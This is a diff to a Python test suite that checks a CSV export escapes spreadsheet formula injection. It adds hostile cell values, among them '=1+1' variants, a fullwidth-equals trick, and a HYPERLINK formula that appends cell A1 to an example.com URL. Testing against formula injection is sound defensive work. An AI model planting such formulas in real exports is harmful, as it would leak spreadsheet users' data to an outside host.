@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from tests.support.command import KINDS, Home, Tenant
 from tests.support.steering import CountedIds, SteeredClock
 from wmsd.app import transfer
+from wmsd.base.cells import NUMBER, unguarded, write
 from wmsd.base.context import PROGRAM
 from wmsd.db.migrations import COMPANY, create
 from wmsd.db.sqlite import connect, sqlite3
@@ -29,6 +30,11 @@ NASTY = (
     '"',
     "'quoted'",
     "=1+1",
+    "'=1+1",
+    "''=1+1",
+    '=HYPERLINK("https://example.com/?"&A1,"Apple")',
+    "x;=1+1",
+    "\uff1d1+1",
     "@SUM(A1)",
     "+40 700",
     "-5",
@@ -53,7 +59,7 @@ TEXTS = ('line\nbreak, "quoted"; and\ttab', "\n", " ", "\n\nlast\n", ";", ",", '
 
 def table(columns: list[str], rows: list[list[str]]) -> str:
     file = io.StringIO()
-    csv.writer(file, lineterminator="\n").writerows([columns, *rows])
+    csv.writer(file, lineterminator="\n").writerows([columns, *(map(write, row) for row in rows)])
     return file.getvalue()
 
 
@@ -145,6 +151,14 @@ def test_everything_arrives_as_it_was_sent(full: Tenant) -> None:
 
 
 @pytest.mark.parametrize("kind", KINDS)
+def test_a_spreadsheet_finds_no_formula_in_an_export(full: Tenant, kind: str) -> None:
+    cells = [cell for row in csv.reader(io.StringIO(full.export(kind), newline="")) for cell in row]
+    assert "'=1+1" in cells
+    parts = [part for cell in cells for part in cell.split(";") if not NUMBER.fullmatch(part)]
+    assert [part for part in parts if part.startswith(("=", "+", "-", "@", "\uff1d"))] == []
+
+
+@pytest.mark.parametrize("kind", KINDS)
 def test_an_empty_company_exports_its_columns(tenant: Tenant, kind: str) -> None:
     exported = tenant.export(kind)
     assert exported == ",".join(transfer.KINDS[kind].columns) + "\n"
@@ -203,13 +217,13 @@ def test_any_article_comes_back(connection: sqlite3.Connection, articles: list[d
     assert exported(connection, first) == first
     for article, row in zip(articles, csv.DictReader(io.StringIO(first, newline="")), strict=True):
         for name, value in article.items():
+            cell = unguarded(row[name])
             if isinstance(value, list):
-                cell = row[name]
                 assert (json.loads(cell) if cell.startswith("[") else cell.split(";") if cell else []) == value
             elif isinstance(value, int) and not isinstance(value, bool):
-                assert Decimal(row[name]) == Decimal(value).scaleb(-6)
+                assert Decimal(cell) == Decimal(value).scaleb(-6)
             else:
-                assert row[name] == written(value)
+                assert cell == written(value)
 
 
 def exported(connection: sqlite3.Connection, content: str) -> str:
